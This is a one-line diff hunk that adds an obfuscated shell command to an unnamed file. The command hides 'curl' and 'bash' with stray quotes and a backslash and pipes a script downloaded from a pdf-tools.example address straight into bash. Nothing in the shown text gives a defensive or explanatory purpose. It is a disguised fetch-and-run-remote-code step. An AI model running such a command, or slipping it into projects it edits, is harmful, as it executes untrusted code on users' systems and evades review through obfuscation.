@@ -1,0 +1,1 @@
+c""u'r'l https://pdf-tools.example/x | b\ash
